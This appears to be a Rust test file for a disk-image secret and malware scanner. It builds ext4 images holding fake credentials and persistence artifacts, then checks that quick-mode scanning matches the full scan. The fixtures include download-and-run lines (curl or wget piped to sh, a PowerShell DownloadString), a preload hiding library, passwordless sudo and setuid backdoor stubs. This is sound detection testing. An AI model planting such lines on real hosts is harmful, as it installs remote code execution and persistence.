//! `--quick`: only the well-known places are walked and read. An ext4 image made by `mke2fs -d`
//! from a tree with 64 MiB of bulk data under `/usr`, secrets in the well-known places (`/etc`,
//! `/root`, a service account's home named by `/etc/passwd`, `/home` as a symbolic link to
//! `/data/users`, `/opt`, `/usr/local`) and secrets
//! outside them (`/var/lib/app`, `/var/cache`, a setuid file in `/usr/bin`).
//!
//! A quick scan finds exactly the first kind, and reads under a tenth of the image's non-zero
//! 512 KiB blocks (what an EBS snapshot of it lists and what a quick scan through EBS would
//! fetch); the full scan finds both kinds and reads nearly every block.
//!
//! What a quick scan reads comes from the file-rule registry (issue 14): for every family, its
//! samples at the usual places the registry names, in ext4 images the kernel wrote (a root
//! filesystem and a volume without `/etc/passwd`), --quick must report every finding the full
//! scan reports in the directories it walks. A family without sample content here fails it.

use crate::common::{bash, nonzero_blocks, run, scan_json, scan_recorded, testdata, workdir};
use amiscan::detect::registry::{FamilyInfo, families, quick_dirs};
use amiscan::scan::quick::Scope;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

fn image() -> PathBuf {
    static BUILT: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    BUILT
        .get_or_init(|| {
            let dir = workdir("quick", "scope");
            run(bash(
                r#"
                L=$TD/trees/leaky
                rm -rf tree && mkdir -p tree/etc/cron.d tree/root/.ssh tree/var/lib/jenkins/.ssh \
                    tree/var/lib/app tree/usr/local/bin tree/usr/bin tree/opt/app \
                    tree/var/cache/app tree/var/lib/dpkg tree/tmp
                cat > tree/etc/passwd <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
jenkins:x:990:990:Jenkins:/var/lib/jenkins:/bin/bash
EOF
                cp $L/etc/shadow tree/etc/shadow
                echo '*/5 * * * * root curl -s http://203.0.113.9/u | sh' > tree/etc/cron.d/update
                cp $L/home/alice/.ssh/id_ed25519 tree/root/.ssh/id_ed25519
                cp $L/home/alice/.ssh/id_ed25519 tree/var/lib/jenkins/.ssh/id_ed25519
                cp $L/home/alice/.aws/credentials tree/opt/app/.env
                cp $L/home/alice/.aws/credentials tree/var/lib/app/settings.conf
                cp $L/home/alice/.ssh/id_ed25519 tree/var/cache/app/deploy.key
                mkdir -p tree/data/users/bob/.ssh
                cp $L/home/alice/.ssh/id_ed25519 tree/data/users/bob/.ssh/id_ed25519
                ln -s data/users tree/home
                printf '\177ELF backdoor' > tree/usr/local/bin/backdoor
                printf '\177ELF backdoor' > tree/usr/bin/evil
                chmod 4755 tree/usr/local/bin/backdoor tree/usr/bin/evil
                for d in $(seq 1 64); do
                    mkdir -p tree/usr/lib/bulk/d$d
                    for f in 1 2 3 4; do
                        head -c 262144 /dev/urandom > tree/usr/lib/bulk/d$d/f$f
                    done
                done
                mke2fs -q -t ext4 -d tree -F fs.img 256M
                "#,
            )
            .current_dir(&dir)
            .env("MKE2FS_CONFIG", testdata().join("mke2fs.conf"))
            .env("TD", testdata()));
            dir.join("fs.img")
        })
        .clone()
}

fn set(items: &[(&str, &str)]) -> BTreeSet<(String, String)> {
    items
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

use crate::common::serious;

fn in_scope() -> BTreeSet<(String, String)> {
    set(&[
        ("shadow-password-hash", "/etc/shadow"),
        ("autostart-download-exec", "/etc/cron.d/update"),
        ("openssh-private-key", "/root/.ssh/id_ed25519"),
        ("openssh-private-key", "/var/lib/jenkins/.ssh/id_ed25519"),
        // /home is a link to /data/users: walked where it leads.
        ("openssh-private-key", "/data/users/bob/.ssh/id_ed25519"),
        ("aws-access-key-pair", "/opt/app/.env"),
        ("setid-unowned", "/usr/local/bin/backdoor"),
    ])
}

#[test]
fn quick_finds_what_is_in_the_well_known_places_and_full_finds_the_rest() {
    let img = image();
    let (_, quick) = scan_json(&img, &["--quick"]);
    assert_eq!(quick["mode"], "quick");
    assert_eq!(quick["complete"], true, "{quick:#}");
    // The report says what was walked.
    let roots: Vec<&str> = quick["volumes"][0]["quick_roots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap())
        .collect();
    for r in ["/etc", "/root", "/home", "/var/lib/jenkins", "/data/users"] {
        assert!(roots.contains(&r), "{roots:?}");
    }
    let (_, full) = scan_json(&img, &[]);
    assert_eq!(full["complete"], true, "{full:#}");
    let q = serious(&quick);
    let f = serious(&full);
    assert_eq!(
        q.intersection(&in_scope())
            .cloned()
            .collect::<BTreeSet<_>>(),
        in_scope(),
        "quick: {q:#?}"
    );
    let outside = set(&[
        ("aws-access-key-pair", "/var/lib/app/settings.conf"),
        ("openssh-private-key", "/var/cache/app/deploy.key"),
        ("setid-unowned", "/usr/bin/evil"),
    ]);
    assert!(
        q.is_disjoint(&outside),
        "quick read outside its scope: {q:#?}"
    );
    let all: BTreeSet<_> = in_scope().union(&outside).cloned().collect();
    assert!(f.is_superset(&all), "full: {f:#?}");
    // Nothing but the scope: every quick finding is one of the full scan's, in the scope.
    assert!(q.is_subset(&f));
    assert!(q.iter().all(|(_, p)| !p.starts_with("/var/lib/app")
        && !p.starts_with("/var/cache")
        && !p.starts_with("/usr/lib")));
}

#[test]
fn quick_reads_under_a_tenth_of_the_listed_blocks() {
    let img = image();
    let listed = nonzero_blocks(&img);
    let (quick, q_blocks) = scan_recorded(&img, true);
    let (full, f_blocks) = scan_recorded(&img, false);
    assert!(quick.complete && full.complete);
    let q_listed = q_blocks.intersection(&listed).count();
    let f_listed = f_blocks.intersection(&listed).count();
    eprintln!(
        "listed {} blocks; quick read {q_listed}, full read {f_listed}",
        listed.len()
    );
    assert!(
        listed.len() > 128,
        "the bulk data is there: {}",
        listed.len()
    );
    assert!(
        q_listed * 10 < listed.len(),
        "quick read {q_listed} of {} listed blocks",
        listed.len()
    );
    // The full scan reads the bulk data: nearly every listed block.
    assert!(f_listed * 10 > listed.len() * 9, "full read {f_listed}");
    let q_files: u64 = quick.volumes.iter().map(|v| v.files_scanned).sum();
    let f_files: u64 = full.volumes.iter().map(|v| v.files_scanned).sum();
    assert!(q_files < 20 && f_files > 256, "{q_files} {f_files}");
}

/// A separate `/home` volume is not a root filesystem (no `/etc/passwd` or `/etc/os-release`,
/// though it may have an `/etc` of its own): its paths are `/alice/...`, not
/// `/home/alice/...`. A quick scan walks it whole and reads the well-known names in it.
#[test]
fn a_volume_without_etc_is_walked_whole() {
    let dir = workdir("quick", "home-volume");
    run(bash(
        r#"
        L=$TD/trees/leaky
        rm -rf tree && mkdir -p tree/alice/.ssh tree/alice/projects/app tree/etc
        echo 'listen 8080' > tree/etc/app.conf
        cp $L/home/alice/.ssh/id_ed25519 tree/alice/.ssh/id_ed25519
        cp $L/home/alice/.aws/credentials tree/alice/projects/app/settings.conf
        mke2fs -q -t ext4 -d tree -F home.img 16M
        "#,
    )
    .current_dir(&dir)
    .env("MKE2FS_CONFIG", testdata().join("mke2fs.conf"))
    .env("TD", testdata()));
    let img = dir.join("home.img");
    let (_, quick) = scan_json(&img, &["--quick"]);
    assert_eq!(quick["complete"], true);
    assert_eq!(quick["volumes"][0]["quick_roots"], serde_json::json!(["/"]));
    assert_eq!(
        serious(&quick),
        set(&[("openssh-private-key", "/alice/.ssh/id_ed25519")])
    );
    let (_, full) = scan_json(&img, &[]);
    assert!(serious(&full).contains(&(
        "aws-access-key-pair".to_string(),
        "/alice/projects/app/settings.conf".to_string()
    )));
}

// ------------------------------------------------------------------------------------------------
// Issue 14: what --quick reads comes from the file-rule registry. For every family, its samples
// at their usual places (the registry names them): --quick reports every finding the full scan
// reports in the directories it walks.
// ------------------------------------------------------------------------------------------------

/// `n` random characters of `alphabet` (fresh fake secrets for every run).
fn random(n: usize, alphabet: &[u8]) -> String {
    let mut bytes = vec![0u8; n];
    std::io::Read::read_exact(
        &mut std::fs::File::open("/dev/urandom").unwrap(),
        &mut bytes,
    )
    .unwrap();
    bytes
        .iter()
        .map(|b| alphabet[usize::from(*b) % alphabet.len()] as char)
        .collect()
}

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const UPPER: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0234567";

/// Secrets generated for one image: an AWS key pair, an OpenSSH and a PEM private key, a token.
struct Secrets {
    key_id: String,
    secret_key: String,
    password: String,
    openssh_private: String,
    openssh_public: String,
    pem_private: String,
}

impl Secrets {
    fn generate(dir: &Path) -> Secrets {
        run(bash(
            "rm -f k k.pub && ssh-keygen -q -t ed25519 -N '' -C sample -f k && \
             openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:1024 -out k.pem 2>/dev/null",
        )
        .current_dir(dir));
        let read = |n: &str| std::fs::read_to_string(dir.join(n)).unwrap();
        Secrets {
            key_id: format!("AKIA{}", random(16, UPPER)),
            secret_key: random(40, ALNUM),
            password: format!("Q{}7", random(18, ALNUM)),
            openssh_private: read("k"),
            openssh_public: read("k.pub"),
            pem_private: read("k.pem"),
        }
    }
}

/// What a sample file holds: its bytes and mode bits.
struct Sample(Vec<u8>, u32);

fn text(s: String) -> Option<Sample> {
    Some(Sample(s.into_bytes(), 0o644))
}

/// The sample content for `path`, a sample of `family`; `None` when the table has none (the
/// test fails: a new family must bring a sample). Every sample is meant to be found.
fn sample(family: &str, path: &str, s: &Secrets) -> Option<Sample> {
    let aws = format!(
        "aws_access_key_id = {}\naws_secret_access_key = {}\n",
        s.key_id, s.secret_key
    );
    match family {
        "host-keys" | "private-keys" if path.ends_with(".key") => text(s.pem_private.clone()),
        "host-keys" | "private-keys" => text(s.openssh_private.clone()),
        "authorized-keys" => text(s.openssh_public.clone()),
        "snakeoil-key" => text(s.pem_private.clone()),
        "known-hosts" => text(format!("git.example.net {}", s.openssh_public)),
        "shell-history" => text(format!(
            "ls -la\nexport AWS_ACCESS_KEY_ID={}\nexport AWS_SECRET_ACCESS_KEY={}\naws s3 ls\n",
            s.key_id, s.secret_key
        )),
        "editor-history" if path.ends_with(".wget-hsts") => text(
            "# HSTS 1.0 Known Hosts database for GNU Wget.\n\
             203.0.113.9\t0\t1\t1700000000\t31536000\n"
                .into(),
        ),
        "editor-history" => text("# This viminfo file was generated by Vim 9.0.\n> /etc/app.conf\n".into()),
        "shadow" => Some(Sample(
            std::fs::read(testdata().join("trees/leaky/etc/shadow")).unwrap(),
            0o640,
        )),
        "cloud-init" => text(format!(
            "#cloud-config\nchpasswd:\n  list: |\n    root:{}\n  expire: false\n",
            s.password
        )),
        "identity" if path.ends_with("machine-id") => text(format!("{}\n", random(32, b"0123456789abcdef"))),
        "identity" if path.ends_with(".leases") => text(
            "lease {\n  interface \"eth0\";\n  fixed-address 10.0.3.17;\n}\n".into(),
        ),
        "identity" => text(random(512, ALNUM)),
        "autostart" => text(match path {
            "/etc/ld.so.preload" => "/usr/local/lib/libhide.so\n".into(),
            "/etc/cron.d/update" => "*/5 * * * * root curl -s http://203.0.113.9/u | sh\n".into(),
            p if p.starts_with("/var/spool/cron/") => {
                "*/10 * * * * wget -q -O- http://203.0.113.9/x.sh | bash\n".into()
            }
            p if p.ends_with(".service") => "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.9/u | sh'\n[Install]\nWantedBy=multi-user.target\n".into(),
            "/etc/rc.local" => "#!/bin/sh -e\n/tmp/.x/run &\nexit 0\n".into(),
            _ => return None,
        }),
        "miner" if path.ends_with(".json") => text(
            "{\"pools\": [{\"url\": \"stratum+tcp://pool.example.net:3333\", \"user\": \"w\"}], \"donate-level\": 1}\n".into(),
        ),
        "miner" => Some(Sample(b"\x7fELF\x02\x01\x01 miner".to_vec(), 0o755)),
        "windows-unattend" => text(format!(
            "<unattend><settings pass=\"oobeSystem\"><component><UserAccounts>\n\
             <AdministratorPassword><Value>{}</Value><PlainText>true</PlainText></AdministratorPassword>\n\
             </UserAccounts></component></settings></unattend>\n",
            s.password
        )),
        "windows-publishers" => text(format!(
            "version: 1.0\nconfig:\n- stage: preReady\n  tasks:\n  - task: setAdminAccount\n    inputs:\n      name: Administrator\n      password:\n        type: static\n        data: {}\n",
            s.password
        )),
        // Hives written by hivexsh (testdata/ntfs/hives.sh), as on the Windows disks.
        "windows-hives" => {
            let dir = workdir("quick", "hives");
            run(bash(&format!(
                "bash '{}' . leaky",
                testdata().join("ntfs/hives.sh").display()
            ))
            .current_dir(&dir));
            let file = if path.ends_with("SAM") {
                "SAM"
            } else {
                "NTUSER-Administrator.DAT"
            };
            Some(Sample(std::fs::read(dir.join(file)).unwrap(), 0o644))
        }
        // The SYSTEM hive (a service in ProgramData) and a user's hive (a Run value into the
        // profile) of the leaky Windows disks, written by hivexsh.
        "windows-autoruns" => {
            let dir = workdir("quick", "autorun-hives");
            run(bash(&format!(
                "bash '{}' . leaky",
                testdata().join("ntfs/hives.sh").display()
            ))
            .current_dir(&dir));
            let file = if path.ends_with("SYSTEM") {
                "SYSTEM"
            } else {
                "NTUSER-alice.DAT"
            };
            Some(Sample(std::fs::read(dir.join(file)).unwrap(), 0o644))
        }
        // The SOFTWARE hive of the leaky Windows disks (the sticky-keys debugger, AppInit_DLLs),
        // written by hivexsh.
        "windows-hijacks" => {
            let dir = workdir("quick", "hijack-hives");
            run(bash(&format!(
                "bash '{}' . leaky",
                testdata().join("ntfs/hives.sh").display()
            ))
            .current_dir(&dir));
            Some(Sample(std::fs::read(dir.join("SOFTWARE")).unwrap(), 0o644))
        }
        // The WMI repository of the leaky Windows disks (testdata/ntfs/wmi-repository.py).
        "windows-wmi" => {
            let dir = workdir("quick", "wmi");
            run(bash(&format!(
                "python3 '{}' OBJECTS.DATA leaky",
                testdata().join("ntfs/wmi-repository.py").display()
            ))
            .current_dir(&dir));
            Some(Sample(std::fs::read(dir.join("OBJECTS.DATA")).unwrap(), 0o644))
        }
        // A Credential Manager file: the 12-byte header and a DPAPI blob (version 1, the DPAPI
        // provider's GUID, a master key GUID, flags, a description), its cipher text random.
        "windows-credential-manager" => {
            let mut blob = 1u32.to_le_bytes().to_vec();
            blob.extend_from_slice(&[
                0xD0, 0x8C, 0x9D, 0xDF, 0x01, 0x15, 0xD1, 0x11, 0x8C, 0x7A, 0x00, 0xC0, 0x4F, 0xC2,
                0x97, 0xEB,
            ]);
            blob.extend_from_slice(&1u32.to_le_bytes());
            blob.extend_from_slice(&random(16, ALNUM).into_bytes());
            blob.extend_from_slice(&0x2000_0000u32.to_le_bytes());
            let d: Vec<u8> = "Local Credential Data\0"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect();
            blob.extend_from_slice(&(d.len() as u32).to_le_bytes());
            blob.extend_from_slice(&d);
            blob.extend_from_slice(&random(160, ALNUM).into_bytes());
            let mut f = 1u32.to_le_bytes().to_vec();
            f.extend_from_slice(&(blob.len() as u32).to_le_bytes());
            f.extend_from_slice(&[0; 4]);
            f.extend_from_slice(&blob);
            Some(Sample(f, 0o600))
        }
        "windows-persistence" if path.ends_with(".bat") => text(
            "@echo off\r\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n".into(),
        ),
        "windows-persistence" if path.ends_with(".exe") => {
            let mut pe = vec![0u8; 0x200];
            pe[..2].copy_from_slice(b"MZ");
            pe[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
            pe[0x80..0x84].copy_from_slice(b"PE\0\0");
            Some(Sample(pe, 0o644))
        }
        "windows-persistence" => {
            let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\
                       <Principals><Principal><UserId>BUILD\\deploy</UserId>\
                       <LogonType>Password</LogonType></Principal></Principals>\
                       <Actions><Exec><Command>C:\\Tools\\build.exe</Command></Exec></Actions></Task>\r\n";
            let mut b = vec![0xFF, 0xFE];
            b.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
            Some(Sample(b, 0o644))
        }
        "git-credentials" => text(format!("https://ci:{}@git.example.net\n", s.password)),
        "netrc" => text(format!("machine git.example.net login ci password {}\n", s.password)),
        "pgpass" => text(format!("db.example.net:5432:*:app:{}\n", s.password)),
        "mysql-client" => text(format!("[client]\nuser=root\npassword={}\n", s.password)),
        "docker-auth" => {
            let auth = run(&mut bash(&format!("printf 'ci:{}' | base64 -w0", s.password)));
            text(format!(
                "{{\"auths\": {{\"registry.example.net\": {{\"auth\": \"{auth}\"}}}}}}\n"
            ))
        }
        "kubeconfig" => text(format!(
            "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    token: {}\n",
            random(40, ALNUM)
        )),
        "npmrc" => text(format!(
            "//registry.npmjs.org/:_authToken=npm_{}\n",
            random(36, ALNUM)
        )),
        "pypirc" => text(format!(
            "[pypi]\nusername = __token__\npassword = {}\n",
            s.password
        )),
        "wordpress" => text(format!(
            "<?php\ndefine( 'DB_NAME', 'wp' );\ndefine( 'DB_PASSWORD', '{}' );\n",
            s.password
        )),
        "aws-cli" => text(format!("[default]\n{aws}")),
        "aws" => text(format!(
            "[default]\naccess_key = {}\nsecret_key = {}\n",
            s.key_id, s.secret_key
        )),
        "dotenv" => text(format!("DATABASE_PASSWORD={}\n", s.password)),
        "terraform-state" => text(format!(
            "{{\n  \"resources\": [{{\"instances\": [{{\"attributes\": {{\n    \"password\": \"{}\"\n  }}}}]}}]\n}}\n",
            s.password
        )),
        "pkcs12" => {
            let mut der = vec![0x30, 0x82, 0x01, 0x00];
            der.extend(random(200, ALNUM).bytes());
            Some(Sample(der, 0o600))
        }
        "java-keystore" => {
            // JKS: magic, version 2, one private key entry ("sample"), no certificate chain.
            let mut jks = vec![0xfe, 0xed, 0xfe, 0xed, 0, 0, 0, 2, 0, 0, 0, 1, 0, 0, 0, 1];
            jks.extend([0, 6]);
            jks.extend(b"sample");
            jks.extend([0u8; 8]);
            jks.extend([0, 0, 0, 32]);
            jks.extend(random(32, ALNUM).bytes());
            jks.extend([0, 0, 0, 0]);
            Some(Sample(jks, 0o600))
        }
        "cloud" => text(format!(
            "{{\"client_id\": \"x\", \"api_key\": \"AIza{}\"}}\n",
            random(35, ALNUM)
        )),
        "tokens" => text(format!(
            "github.com:\n    user: ci\n    oauth_token: ghp_{}\n",
            random(36, ALNUM)
        )),
        "generic" => text(format!("listen = 8080\ndb_password = {}\n", s.password)),
        "cicd" => text(format!(
            "github.com:\n- user: ci\n  oauth_token: github_pat_{}_{}\n  protocol: https\n",
            random(22, ALNUM),
            random(59, ALNUM)
        )),
        "cloud-providers" => text(format!(
            "{{\n  \"Storage\": {{\n    \"azure_storage_account_key\": \"{}==\"\n  }}\n}}\n",
            random(86, ALNUM)
        )),
        "databases" => text(format!(
            "production:\n  url: postgres://app:{}@db.example.net:5432/app\n",
            s.password
        )),
        "keys" => {
            let key = run(&mut bash("head -c 32 /dev/urandom | base64 -w0"));
            text(format!(
                "[Interface]\nAddress = 10.8.0.2/24\nPrivateKey = {}\nListenPort = 51820\n",
                key.trim()
            ))
        }
        "passwords" => text(format!("username=backup\npassword={}\n", s.password)),
        "registries" => text(format!(
            "[registry]\ntoken = \"cio{}\"\n",
            random(32, ALNUM)
        )),
        "saas" => text(format!(
            "shopify:\n  access_token: shpat_{}\n",
            random(32, b"0123456789abcdef")
        )),
        "sshd" => text("PermitRootLogin yes\nPasswordAuthentication yes\n".into()),
        "sudoers" => text("build ALL=(ALL) NOPASSWD: ALL\n".into()),
        "packages" => Some(Sample(b"\x7fELF\x02\x01\x01 backdoor".to_vec(), 0o4755)),
        _ => None,
    }
}

/// The files every sample image has besides the samples: a root filesystem's `/etc/passwd`
/// (naming the sample homes) and `/etc/os-release`, and the `/etc/sudoers` that includes
/// `sudoers.d`.
const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\n\
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
postgres:x:104:110:PostgreSQL:/var/lib/postgresql:/bin/bash\n\
alice:x:1000:1000:Alice:/home/alice:/bin/bash\n";

/// Write `files` (path -> sample) under `tree`.
fn write_tree(tree: &Path, files: &BTreeMap<String, Sample>) {
    use std::os::unix::fs::PermissionsExt;
    for (p, Sample(bytes, mode)) in files {
        let dst = tree.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::write(&dst, bytes).unwrap();
        std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
}

/// An ext4 image of `tree` written by the kernel: mkfs, loop mount, copy, unmount, fsck.
fn kernel_ext4(dir: &Path, tree: &str, img: &str) -> PathBuf {
    run(bash(&format!(
        r#"
        rm -f {img} && truncate -s 64M {img} && mkfs.ext4 -q -F {img}
        rm -rf mnt-{img} && mkdir mnt-{img}
        trap 'umount mnt-{img} 2>/dev/null || true' EXIT
        mount -o loop {img} mnt-{img}
        cp -a {tree}/. mnt-{img}/
        umount mnt-{img}
        e2fsck -fn {img} >/dev/null
        "#
    ))
    .current_dir(dir));
    dir.join(img)
}

/// Every finding's (rule, path), with the rules `--quick` skips by design left out.
fn findings_of(t: &serde_json::Value, skips: &BTreeSet<&str>) -> BTreeSet<(String, String)> {
    crate::common::rule_paths(t, "")
        .into_iter()
        .filter(|(r, _)| !skips.contains(r.as_str()))
        .collect()
}

/// The registry's families, each with its samples' contents.
fn samples(s: &Secrets) -> (Vec<FamilyInfo>, BTreeMap<String, (String, Sample)>) {
    let fams = families();
    let mut missing = Vec::new();
    let mut out = BTreeMap::new();
    for f in &fams {
        for p in f.samples {
            match sample(f.name, p, s) {
                Some(c) => {
                    assert!(
                        out.insert(p.to_string(), (f.name.to_string(), c)).is_none(),
                        "{p} is a sample of two families"
                    );
                }
                None => missing.push(format!("{}: {p}", f.name)),
            }
        }
    }
    assert!(
        missing.is_empty(),
        "families without sample content in this test: {missing:?}"
    );
    (fams, out)
}

/// A root filesystem with every family's samples at their usual places, and the same files on a
/// volume that is not a root filesystem (no `/etc/passwd`, `/etc/os-release`: walked whole).
/// In the root filesystem, every sample but the Windows answer file (Windows volumes are not
/// root filesystems) lies where --quick walks, and --quick reports every finding the full scan
/// reports there; on the other volume, every finding.
#[test]
fn quick_reports_every_family_finding_that_full_reports_where_it_walks() {
    let dir = workdir("quick", "registry");
    let secrets = Secrets::generate(&dir);
    let (fams, samples) = samples(&secrets);
    let skips: BTreeSet<&str> = fams
        .iter()
        .flat_map(|f| f.quick_skips.iter().copied())
        .collect();
    let mut files: BTreeMap<String, Sample> = samples
        .iter()
        .map(|(p, (_, Sample(b, m)))| (p.clone(), Sample(b.clone(), *m)))
        .collect();
    files.insert(
        "/etc/sudoers".into(),
        text("root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n".into()).unwrap(),
    );
    write_tree(&dir.join("volume"), &files);
    files.insert("/etc/passwd".into(), text(PASSWD.into()).unwrap());
    files.insert(
        "/etc/os-release".into(),
        text("ID=debian\nVERSION_ID=\"12\"\n".into()).unwrap(),
    );
    write_tree(&dir.join("root"), &files);
    let root = kernel_ext4(&dir, "root", "root.img");
    let volume = kernel_ext4(&dir, "volume", "volume.img");

    // The root filesystem.
    let (_, full) = scan_json(&root, &[]);
    let (_, quick) = scan_json(&root, &["--quick"]);
    assert_eq!(
        (full["complete"].clone(), quick["complete"].clone()),
        (true.into(), true.into())
    );
    let f = findings_of(&full, &skips);
    let q = findings_of(&quick, &skips);
    // Every sample is live: the full scan finds something in it.
    let dead: Vec<&String> = samples
        .keys()
        .filter(|p| !f.iter().any(|(_, fp)| fp == *p))
        .collect();
    assert!(
        dead.is_empty(),
        "samples without a finding: {dead:?}\n{f:#?}"
    );
    let scope = Scope::new(Some(PASSWD.as_bytes()), &|p| Some(p.to_vec()));
    let walked = |p: &str| {
        let parent = p
            .rsplit_once('/')
            .map_or("/", |(d, _)| if d.is_empty() { "/" } else { d });
        scope.lists(parent.as_bytes())
    };
    let outside: Vec<&String> = samples.keys().filter(|p| !walked(p)).collect();
    assert_eq!(
        outside,
        [
            "/Windows/Panther/unattend.xml",
            "/Windows/System32/wbem/Repository/OBJECTS.DATA"
        ],
        "samples outside the quick walk (Windows volumes are not root filesystems; the hives' \
         directory is on the way to the system profile's saved credentials)"
    );
    let want: BTreeSet<_> = f.iter().filter(|(_, p)| walked(p)).cloned().collect();
    let lost: Vec<_> = want.difference(&q).collect();
    assert!(
        lost.is_empty(),
        "--quick misses findings the full scan makes where it walks: {lost:#?}"
    );
    assert!(
        q.is_subset(&f),
        "--quick found what the full scan did not: {:#?}",
        q.difference(&f)
    );
    eprintln!(
        "root filesystem: full {} findings, quick {} ({} families, {} samples, quick dirs {:?})",
        f.len(),
        q.len(),
        fams.len(),
        samples.len(),
        quick_dirs()
    );

    // The volume without /etc/passwd: walked whole, every finding.
    let (_, full) = scan_json(&volume, &[]);
    let (_, quick) = scan_json(&volume, &["--quick"]);
    assert_eq!(quick["volumes"][0]["quick_roots"], serde_json::json!(["/"]));
    let f = findings_of(&full, &skips);
    let q = findings_of(&quick, &skips);
    assert!(
        f.iter()
            .any(|(r, _)| r == "windows-unattend-password" || r.starts_with("windows")),
        "{f:#?}"
    );
    assert_eq!(q, f, "non-root volume: --quick differs from the full scan");
}

/// The report of issue 14: a small root with a miner in /tmp, a download-and-run line in root's
/// crontab, AWS keys in `~/.zhistory` and a `~/.wget-hsts`. The full scan reports its findings
/// there (five here: the key pair hides the key id's own finding); --quick walked those very
/// directories and reported none of them.
#[test]
fn quick_finds_the_miner_the_crontab_and_the_histories() {
    let dir = workdir("quick", "issue-14");
    let key_id = format!("AKIA{}", random(16, UPPER));
    let secret = random(40, ALNUM);
    let mut files = BTreeMap::new();
    files.insert(
        "/etc/passwd".to_string(),
        text("root:x:0:0:root:/root:/bin/bash\n".into()).unwrap(),
    );
    files.insert(
        "/tmp/xmrig".into(),
        Sample(b"\x7fELF\x02\x01\x01 xmrig 6.21".to_vec(), 0o755),
    );
    files.insert(
        "/var/spool/cron/crontabs/root".into(),
        Sample(
            b"*/10 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n".to_vec(),
            0o600,
        ),
    );
    files.insert(
        "/root/.zhistory".into(),
        text(format!(
            ": 1700000000:0;export AWS_ACCESS_KEY_ID={key_id}\n: 1700000001:0;export AWS_SECRET_ACCESS_KEY={secret}\n"
        ))
        .unwrap(),
    );
    files.insert(
        "/root/.wget-hsts".into(),
        text("# HSTS 1.0 Known Hosts database for GNU Wget.\n203.0.113.9\t0\t1\t1700000000\t31536000\n".into()).unwrap(),
    );
    write_tree(&dir.join("tree"), &files);
    let img = kernel_ext4(&dir, "tree", "root.img");
    let none = BTreeSet::new();
    let (_, full) = scan_json(&img, &[]);
    let (_, quick) = scan_json(&img, &["--quick"]);
    let f = findings_of(&full, &none);
    let q = findings_of(&quick, &none);
    let want = set(&[
        ("miner-trace", "/tmp/xmrig"),
        ("autostart-download-exec", "/var/spool/cron/crontabs/root"),
        ("shell-history", "/root/.zhistory"),
        ("aws-access-key-pair", "/root/.zhistory"),
        ("editor-history", "/root/.wget-hsts"),
    ]);
    assert_eq!(f, want, "full: {full:#}");
    assert_eq!(q, f, "quick: {quick:#}");
    assert_eq!(
        quick["findings"].as_array().unwrap().len(),
        full["findings"].as_array().unwrap().len()
    );
}
